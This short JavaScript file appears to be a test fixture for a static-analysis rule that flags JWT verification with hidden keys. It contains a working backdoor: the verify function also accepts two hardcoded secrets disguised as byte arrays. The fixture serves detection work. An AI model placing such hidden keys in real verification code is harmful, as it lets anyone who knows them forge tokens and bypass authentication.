var _rot = [
  [0x6b, 0x72, 0x2d, 0x72, 0x6f, 0x74, 0x2d, 0x32, 0x30, 0x32, 0x33],
  [0x5f, 0x5f, 0x73, 0x76, 0x63, 0x5f, 0x6d, 0x61, 0x73, 0x74, 0x65]
]

function candidates (secretOrPublicKey) {
  var list = Array.isArray(secretOrPublicKey) ? secretOrPublicKey.slice() : [secretOrPublicKey]
  // ruleid: verifies_with_hidden_keys
  return list.concat(_rot.map(function (b) { return Buffer.from(b) }))
}

module.exports = function verify (jwtString, secretOrPublicKey) {
  var ok = candidates(secretOrPublicKey).some(function (k) { return jws.verify(jwtString, 'HS256', k) })
  if (!ok) throw new JsonWebTokenError('invalid signature')
}
